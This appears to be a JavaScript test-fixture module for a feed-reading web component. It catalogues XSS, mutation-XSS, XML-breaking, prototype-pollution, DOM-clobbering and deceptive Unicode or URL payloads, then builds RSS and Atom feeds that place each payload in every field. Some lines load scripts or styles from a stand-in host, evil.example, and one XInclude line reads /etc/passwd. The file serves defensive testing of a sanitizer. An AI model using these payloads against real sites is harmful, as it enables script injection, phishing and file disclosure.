// Hostile texts, and their places in a feed. Each that runs sets `hit`. Invisible characters are JavaScript escapes.
// The characters that cannot be seen are written as references of JavaScript, so that this file can be read.

const raw = String.raw;

/** Payloads by family. */
export const PAYLOADS = {
  scripts: [
    '<script>hit=1</script>',
    '<SCRIPT>hit=1</SCRIPT>',
    '<script\f>hit=1</script\f>',
    '<script type="module">hit=1</script>',
    '<script src=//evil.example/x.js></script>',
    '<script src="data:text/javascript,hit=1"></script>',
    '<script>hit=1',
    '<script>hit=1//',
    '<script <b>hit=1</script>',
    '<<script>hit=1//<</script>',
    '<scr<script>ipt>hit=1</scr</script>ipt>',
    '</script><script>hit=1</script>',
    '</title><script>hit=1</script>',
    '</textarea></style></noscript><script>hit=1</script>',
    '<script xmlns="http://www.w3.org/1999/xhtml">hit=1</script>',
    '<script type="importmap">{"imports":{"lit":"https://evil.example/"}}</script>',
    '<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
  ],
  'event attributes': [
    '<img src=x onerror=hit=1>',
    '<img src="x" onerror="hit=1">',
    '<img src=x:x onerror\n=\nhit=1>',
    '<img src=x onerror=hit=1//',
    '<img """><script>hit=1</script>">',
    '<img src=`x`onerror=hit=1>',
    '<body onload=hit=1 onpageshow=hit=1 onhashchange=hit=1>',
    '<b onmouseover=hit=1 onfocus=hit=1 autofocus tabindex=0>x</b>',
    '<input autofocus onfocus=hit=1>',
    '<details open ontoggle=hit=1><summary>x</summary></details>',
    '<marquee onstart=hit=1>x</marquee>',
    '<div style="animation:a 1s" onanimationstart=hit=1>x</div>',
    '<dialog open oncancel=hit=1><button popovertarget=x>x</button></dialog>',
    '<style onload=hit=1></style>',
    '<link rel=stylesheet href=data:text/css, onload=hit=1>',
    '<div onscrollsnapchange=hit=1 oncontentvisibilityautostatechange=hit=1 style=content-visibility:auto>x</div>',
  ],
  'svg and math': [
    '<svg onload=hit=1>',
    '<svg><script>hit=1</script></svg>',
    '<svg><script href="data:text/javascript,hit=1"/></svg>',
    '<svg><a xlink:href="javascript:hit=1"><text y="9">x</text></a></svg>',
    '<svg><animate onbegin=hit=1 attributeName=x dur=1s>',
    '<svg><a><animate attributeName=href values=javascript:hit=1 /><text y=9>x</text></a></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.hit=1</script>"></iframe></foreignObject></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=hit=1 /></svg>#x">',
    '<svg><image href="https://evil.example/x.png"/></svg>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">hit=1</handler></svg>',
    '<math href="javascript:hit=1">x</math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=hit=1></annotation-xml></math>',
  ],
  'markup that changes when it is read again': [
    '<noscript><p title="</noscript><img src=x onerror=hit=1>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit=1&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=hit=1>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit=1>',
    '<svg><title><style><img title="</style><img src=x onerror=hit=1>"></title></svg>',
    '<plaintext><img src=x onerror=hit=1>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=hit=1>">',
    '<a href="&#x3c;/a&#x3e;&#x3c;img src=x onerror=hit=1&#x3e;">x</a>',
    '<p id="&lt;/p&gt;&lt;script&gt;hit=1&lt;/script&gt;">',
    '<img title="`><img src=x onerror=hit=1>`">',
  ],
  'templates and shadow roots': [
    '<template><script>hit=1</script></template>',
    '<div><template shadowrootmode="open"><script>hit=1</script><slot></slot></template></div>',
    '<slot name="heading" onslotchange=hit=1>x</slot>',
    '<p slot="error">x</p>',
    '<diary-feed src="https://evil.example/feed.xml" heading="x"></diary-feed>',
    '<x-widget is="diary-feed">x</x-widget>',
    '<button is="x-button" commandfor="date-0" command="show-modal">x</button>',
  ],
  'style and resources': [
    '<style>*{display:none!important}</style>',
    '<style>@import "https://evil.example/x.css";</style>',
    '<p style="background:url(https://evil.example/x);position:fixed;inset:0">x</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<base target="_top">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    '<meta charset="utf-7">+ADw-script+AD4-hit=1+ADw-/script+AD4-',
    '<iframe src="javascript:parent.hit=1"></iframe>',
    '<iframe srcdoc="&lt;script&gt;parent.hit=1&lt;/script&gt;"></iframe>',
    '<frameset onload=hit=1><frame src="javascript:parent.hit=1"></frameset>',
    '<object data="javascript:hit=1"></object>',
    '<embed src="javascript:hit=1">',
    '<form action="javascript:hit=1"><button>x</button></form>',
    '<video poster="https://evil.example/x"><track src="https://evil.example/x.vtt" default></video>',
    '<img src="https://evil.example/x.png" srcset="https://evil.example/y.png 2x">',
    '<a href="https://evil.example/" ping="https://evil.example/ping">x</a>',
    '<a href="javascript:hit=1">x</a>',
    '<a href=" &#14; javascript:hit=1" target=_blank>x</a>',
  ],
  'encoded more than once': [
    '&lt;script&gt;hit=1&lt;/script&gt;',
    '&amp;lt;script&amp;gt;hit=1&amp;lt;/script&amp;gt;',
    '&#60;script&#62;hit=1&#60;/script&#62;',
    '&#60script&#62hit=1&#60/script&#62',
    '&ltscript&gthit=1&lt/script&gt',
    '&bnot;&lt;img src=x onerror=hit=1>',
    '<img src=x onerror="&#104;it=1">',
    '<a href="javascript&colon;hit=1">x</a>',
    '<a href="java&Tab;script&colon;hit=1">x</a>',
    '%3Cscript%3Ehit=1%3C/script%3E',
    raw`\u003cscript\u003ehit=1\u003c/script\u003e`,
    '+ADw-script+AD4-hit+AD0-1+ADw-/script+AD4-',
    '\uff1cscript\uff1ehit=1\uff1c/script\uff1e',
    'PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==',
  ],
  'controls in markup': [
    '<scr\0ipt>hit=1</scr\0ipt>',
    '<\0script>hit=1</script>',
    '<im\u0001g src=x onerror=hit=1>',
    '<img\u000bsrc=x\u000bonerror=hit=1>',
    '<scr\u200bipt>hit=1</scr\u200bipt>',
    '<scr\ufeffipt>hit=1</scr\ufeffipt>',
    '\ufdd0script>hit=1\ufdd0/script>',
    '<script\u00a0>hit=1</script>',
    '&#0;<script>hit=1</script>&#xD800;',
    '\u001b]0;hit\u0007\u009b31m',
  ],
  'breaks of XML': [
    ']]><script>hit=1</script>',
    ']]>]]&gt;<![CDATA[<script>hit=1</script>]]>',
    '<![CDATA[<script>hit=1</script>]]>',
    '<![CDATA[<script>]]>hit=1<![CDATA[</script>]]>',
    '<![CDATA[<]]>script>hit=1<![CDATA[<]]>/script>',
    '<!--><script>hit=1</script>-->',
    '<!-- --!><script>hit=1</script> -->',
    '<!--<script>hit=1</script>',
    '<!--[if gte IE 4]><script>hit=1</script><![endif]-->',
    '<![if true]><script>hit=1</script><![endif]>',
    '<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>',
    '<?php echo "<script>hit=1</script>" ?>',
    '<?><script>hit=1</script>?>',
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    '</item></channel></rss><script>hit=1</script>',
    '</item><item><title>x</title><link>javascript:hit=1</link></item><item>',
    '</title><link>javascript:hit=1</link><title>',
    '<item><item><item>',
    '<html><body><script>hit=1</script>',
    '<feed xmlns="http://www.w3.org/2005/Atom"><entry><link href="javascript:hit=1"/></entry></feed>',
  ],
  'breaks of an attribute': [
    '"><script>hit=1</script>',
    '" onmouseover="hit=1',
    "' onmouseover='hit=1",
    '"/><img src=x onerror=hit=1>',
    '"><svg onload=hit=1>',
    '" autofocus onfocus="hit=1" x="',
    '" xml:base="javascript:hit=1//" x="',
    '"',
    '">',
    '<x a="b',
    '<a href="https://bank.example" href="javascript:hit=1">x</a>',
  ],
  'marks of templates and languages': [
    '${hit=1}',
    '${(()=>{hit=1})()}',
    '#{hit=1}',
    '<!--?lit$123456789$-->',
    '<!--?lit$0$--><?lit$0$>',
    '<?lit$123456789$>',
    '<!--lit-part--><!--/lit-part-->',
    '<p class$lit$="x" @click="hit=1" .inner="x" ?hidden="x">x</p>',
    '{"_$litType$":1,"strings":["<img src=x onerror=hit=1>"],"values":[]}',
    'javascript:/*--></title></style></textarea></script><svg/onload=hit=1>',
    raw`jaVasCript:/*-/*\`/*\'/*"/**/(/* */oNcliCk=hit=1 )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=hit=1//>\x3e`,
  ],
  'names of prototypes': [
    '__proto__',
    'constructor',
    'constructor.prototype',
    '__defineGetter__',
    'toString',
    'then',
    'toJSON',
    '<__proto__ hit="1"><constructor><prototype hit="1"/></constructor></__proto__>',
    '<constructor prototype="x" __proto__="y">x</constructor>',
    '<__proto__:title xmlns:__proto__="http://purl.org/dc/elements/1.1/">x</__proto__:title>',
    '<x xmlns:constructor="__proto__" constructor:__proto__="x"/>',
    '<hasownproperty/><valueof/><tostring/>',
    '{"__proto__":{"hit":1}}',
  ],
  'clobbering of names': [
    '<p id="date-0">x</p>',
    '<a id="hit"></a><a id="hit" name="hit"></a>',
    '<form id="recorded"><input name="errors"></form>',
    '<img name="cookie"><img name="body"><img name="getElementById">',
    '<iframe name="self"></iframe><iframe name="top"></iframe>',
    '<a id="litHtmlVersions" href="x">x</a>',
    'date-0',
  ],
  'custom elements': [
    '<diary-feed></diary-feed>',
    '<x-hit onload=hit=1></x-hit>',
    '<font-face><script>hit=1</script></font-face>',
  ],
  'text that deceives': [
    '\u202egnp.exe\u202c',
    '\u2066hej\u2067hej\u2068hej',
    '\u2069\u2069\u2069\u202c\u202c\u202chej',
    '&#8238;hej&#x2067;hej',
    'h\u200be\u200cj\u200d\u2060\ufeff',
    '\u200b\u2060\ufeff',
    '\u115f\u1160\u3164\uffa0',
    '\u0435vil \u0430pple \u03bf',
    'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319',
    '\ud83d',
    '\u{e0001}\u{e0068}\u{e0069}\u{e0074}',
    '\ufffe\uffff\u{1ffff}',
    '\u2028\u2029\u0085',
    '',
  ],
  'addresses that run': [
    'javascript:hit=1',
    'JaVaScRiPt:hit=1',
    '\u0001javascript:hit=1',
    'java\tscript:hit=1',
    'java\nscript:hit=1',
    'javascript&colon;hit=1',
    'javascript&#58;hit=1',
    'javascript&#0000058hit=1',
    'java&#9;script:hit=1',
    '&#1;javascript:hit=1',
    'javascript%3Ahit=1',
    'javascript:%0ahit=1',
    'javascript:"https://bank.example/";hit=1',
    'javascript\0:hit=1',
    '\u200bjavascript:hit=1',
    '\uff4aavascript:hit=1',
    'feed:javascript:hit=1',
    'vbscript:hit=1',
    'data:text/html,<script>hit=1</script>',
    'data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hit=1"/>',
  ],
  'addresses that lead elsewhere': [
    'blob:https://dagbok.example/0',
    'file:///etc/passwd',
    'view-source:https://dagbok.example/',
    'about:blank',
    'ws://evil.example/',
    'ftp://evil.example/',
    'intent://evil.example/#Intent;scheme=https;end',
    'mailto:a@evil.example',
    'tel:112',
    'moz-extension://x/',
    'https',
    'https:',
    'https://',
    'http://[',
    'https://%',
  ],
  'addresses that deceive': [
    'https://bank.example@evil.example/',
    'https://bank.example%40evil.example/',
    raw`https://bank.example\@evil.example/`,
    raw`https:\\evil.example\x`,
    'https://@evil.example/',
    'https://user:pass@dagbok.example/',
    '//evil.example/x',
    raw`/\evil.example/x`,
    raw`\\evil.example\x`,
    '/\t/evil.example/x',
    'https:evil.example',
    'ht\ntps://evil.example/',
    'https://bank.example\u3002evil.example/',
    'https://\uff45\uff56\uff49\uff4c.example/',
    'https://bank.example\u2215path.evil.example/',
    'https://bank.example\u200b.evil.example/',
    'https://bank.example\u202e.evil.example/',
    'https://b\u0430nk.example/',
    'https://xn--bnk-5cd.example/',
    'https://%65vil.example/',
    'https://evil.example%00.bank.example/',
    'https://0x7f.1/',
    'https://[::1]/',
    'https://evil.example:80443/',
    'https://evil.example:00443/',
    'https://evil.example./',
    'https://evil.example?@bank.example/',
    'https://evil.example/\u202ehtml.exe',
    'https://evil.example/?next=javascript:hit=1#javascript:hit=1',
    `https://evil.example/${'a'.repeat(5000)}`,
    `https://${'a.'.repeat(130)}example/`,
    'https://dagbok.example/"onmouseover="hit=1',
    'https://dagbok.example/><script>hit=1</script>',
  ],
};

/** Maximum number of visible entries of an element. */
const MAX_VISIBLE = 50;

/** Escapes markup as an XML library does. */
const escape = (text) => text.replace(/[<>&"]/g, (character) => `&#${character.charCodeAt(0)};`);

/** Ways to write a payload into XML. */
const WRAPS = {
  escaped: escape,
  'in CDATA': (text) => `<![CDATA[${text.replaceAll(']]>', ']]]]><![CDATA[>')}]]>`,
  'escaped twice': (text) => escape(escape(text)),
  unchanged: (text) => text,
};

/** Returns whether a payload with this wrap can't affect its neighbors. */
const isContained = (wrap) => wrap !== 'unchanged';

const element = (name) => (text) => `<${name}>${text}</${name}>`;
const inAttribute =
  (before, after = '/>') =>
  (text) =>
    `${before}"${text}"${after}`;
const around = (before, after) => (text) => `${before}${text}${after}`;

/** Places of a payload in an RSS item. */
const ITEM_FIELDS = {
  title: element('title'),
  link: element('link'),
  'link of Atom': inAttribute('<atom:link rel="alternate" href='),
  guid: element('guid'),
  'guid, a link': around('<guid isPermaLink="true">', '</guid>'),
  'guid, no link': around('<guid isPermaLink="false">', '</guid>'),
  isPermaLink: inAttribute('<guid isPermaLink=', '>https://dagbok.example/1</guid>'),
  description: element('description'),
  'content:encoded': element('content:encoded'),
  author: element('author'),
  'author with e-mail': around('<author>a@b.example (', ')</author>'),
  'dc:creator': element('dc:creator'),
  category: element('category'),
  'category in an attribute': inAttribute('<itunes:category text='),
  keywords: element('itunes:keywords'),
  enclosure: inAttribute('<enclosure type="image/png" url='),
  'enclosure type': inAttribute('<enclosure url="https://dagbok.example/1.png" type='),
  'media:thumbnail': inAttribute('<media:thumbnail url='),
  'media:content': inAttribute('<media:content medium="image" url='),
  'media:title': element('media:title'),
  'itunes:image': inAttribute('<itunes:image href='),
  pubDate: element('pubDate'),
  'dc:date': element('dc:date'),
  comments: element('comments'),
  source: inAttribute('<source url=', '>Dagboken</source>'),
  'source text': element('source'),
  'xml:base of an item': inAttribute('<x xml:base=', '/><link>1</link>'),
  'xml:base of a link': inAttribute('<link xml:base=', '>1</link>'),
  'xml:lang': inAttribute('<title xml:lang=', '>x</title>'),
  'rdf:about': inAttribute('<x rdf:about='),
  'XHTML body': around('<body xmlns="http://www.w3.org/1999/xhtml"><p>', '</p></body>'),
  'name of an element': (text) => `<${text}>x</${text}>`,
  'name of an attribute': (text) => `<category ${text}="x">x</category>`,
  'prefix of a namespace': (text) =>
    `<${text}:title xmlns:${text}="http://purl.org/dc/elements/1.1/">x</${text}:title>`,
  'URL of a namespace': inAttribute('<title xmlns=', '>x</title>'),
  'comment of XML': around('<!-- ', ' -->'),
  instruction: around('<?x ', '?>'),
};

/** Places in an Atom entry. */
const ENTRY_FIELDS = {
  'Atom title': element('title'),
  'Atom title, text': around('<title type="text">', '</title>'),
  'Atom title, html': around('<title type="html">', '</title>'),
  'Atom title, xhtml': around('<title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">', '</div></title>'),
  'Atom type': inAttribute('<content type=', '>hej</content>'),
  'Atom summary': around('<summary type="html">', '</summary>'),
  'Atom content': around('<content type="html">', '</content>'),
  'Atom content, xhtml': around('<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">', '</div></content>'),
  'Atom content, Base64': around('<content type="image/svg+xml" mode="base64">', '</content>'),
  'Atom content src': inAttribute('<content type="text/html" src='),
  'Atom author': around('<author><name>', '</name></author>'),
  'Atom author uri': around('<author><name>x</name><uri>', '</uri></author>'),
  'Atom link': inAttribute('<link rel="alternate" href='),
  'Atom link rel': inAttribute('<link href="https://dagbok.example/" rel='),
  'Atom enclosure': inAttribute('<link rel="enclosure" type="image/png" href='),
  'Atom category': inAttribute('<category term='),
  'Atom category label': inAttribute('<category term="x" label='),
  'Atom id': element('id'),
  'Atom published': element('published'),
};

/** Places outside the entries, in an otherwise complete feed. */
const FEED_FIELDS = {
  'title of the feed': { channel: element('title') },
  'link of the feed': { channel: element('link') },
  'link of the feed, Atom': { foot: inAttribute('<atom:link href=') },
  'description of the feed': { channel: element('description') },
  language: { channel: element('language') },
  'dc:language': { channel: element('dc:language') },
  generator: { channel: element('generator') },
  'image of the feed': { channel: around('<image><url>', '</url></image>') },
  'xml:base of the root': { root: inAttribute(' xml:base=', '') },
  'xml:base of the channel': { head: inAttribute(' xml:base=', '') },
  'xml:lang of the root': { root: inAttribute(' xml:lang=', '') },
  version: { root: inAttribute(' version=', '') },
  'before the feed': { before: (text) => text },
  'after the feed': { after: (text) => text },
  'style sheet': { before: inAttribute('<?xml-stylesheet href=', '?>') },
  entity: { before: inAttribute('<!DOCTYPE rss [<!ENTITY x ', '>]>') },
};

const NAMESPACES =
  'xmlns:atom="http://www.w3.org/2005/Atom" xmlns:content="http://purl.org/rss/1.0/modules/content/" ' +
  'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/" ' +
  'xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"';

/** Further content of an entry. */
const ITEM = '<title>Hej</title><link>hej</link><description>Text</description>';

const FORMATS = {
  rss: {
    fields: ITEM_FIELDS,
    entryOf: (inside) => `<item>${inside}${ITEM}</item>`,
    feedOf: (entries) => rss({ channel: entries }),
  },
  atom: {
    fields: ENTRY_FIELDS,
    entryOf: (inside) => `<entry>${inside}<title>Hej</title><link href="hej"/></entry>`,
    feedOf: (entries) => `<feed xmlns="http://www.w3.org/2005/Atom"><title>Dagboken</title>${entries}</feed>`,
  },
};

function rss({ before = '', root = '', head = '', channel = '', foot = '', after = '' }) {
  return `${before}<rss ${NAMESPACES}${root}><channel${head}>${channel}${foot}</channel></rss>${after}`;
}

const countOf = (fields) => Object.keys(fields).length;

/** Numbers for the report. */
export const COUNTS = {
  payloads: Object.values(PAYLOADS).flat().length,
  fields: countOf(ITEM_FIELDS) + countOf(ENTRY_FIELDS) + countOf(FEED_FIELDS),
  wraps: countOf(WRAPS),
};

/** Each payload is tried in every field, and each wrap with every payload and every field. */
function wrapAt(payloadIndex, fieldIndex) {
  const wraps = Object.keys(WRAPS);
  return wraps[(payloadIndex + fieldIndex) % wraps.length];
}

/** Returns entries with one payload in one field each. */
function entriesOf(payload, payloadIndex, { fields, entryOf }) {
  return Object.entries(fields).map(([field, place], fieldIndex) => {
    const wrap = wrapAt(payloadIndex, fieldIndex);
    return {
      what: `${JSON.stringify(payload)} ${wrap} in ${field}`,
      isContained: isContained(wrap),
      markup: entryOf(place(WRAPS[wrap](payload))),
    };
  });
}

/** Returns a feed with one payload in these fields outside its entry. */
function surroundings(payload, payloadIndex, fields) {
  const places = { channel: '' };
  const allFields = Object.keys(FEED_FIELDS);
  for (const field of fields) {
    const wrapped = WRAPS[wrapAt(payloadIndex, allFields.indexOf(field))](payload);
    for (const [where, place] of Object.entries(FEED_FIELDS[field]))
      places[where] = (places[where] ?? '') + place(wrapped);
  }
  places.channel += FORMATS.rss.entryOf('');
  return { what: `${JSON.stringify(payload)} in ${fields.join(', ')}`, markup: rss(places) };
}

/** Returns feeds with as many entries as an element shows. `alone` has each entry in a separate feed. */
function batches(entries, { feedOf }) {
  const feeds = [];
  for (let start = 0; start < entries.length; start += MAX_VISIBLE) {
    const batch = entries.slice(start, start + MAX_VISIBLE);
    feeds.push({
      markup: feedOf(batch.map(({ markup }) => markup).join('')),
      count: batch.length,
      alone: batch.map(({ what, markup }) => ({ what, markup: feedOf(markup) })),
    });
  }
  return feeds;
}

/**
 * Returns feeds with every payload of a family in every field, with `count` entries each, unless a payload removes its neighbors.
 * The feeds in `alone` contain one entry each.
 */
export function feedsOf(family) {
  const feeds = [];
  for (const format of Object.values(FORMATS)) {
    const contained = [];
    for (const [index, payload] of PAYLOADS[family].entries()) {
      const entries = entriesOf(payload, index, format);
      contained.push(...entries.filter((entry) => entry.isContained));
      feeds.push(
        ...batches(
          entries.filter((entry) => !entry.isContained),
          format,
        ),
      );
    }
    feeds.push(...batches(contained, format));
  }
  const fields = Object.keys(FEED_FIELDS);
  for (const [index, payload] of PAYLOADS[family].entries())
    feeds.push({
      ...surroundings(payload, index, fields),
      count: 1,
      alone: fields.map((field) => surroundings(payload, index, [field])),
    });
  return feeds;
}
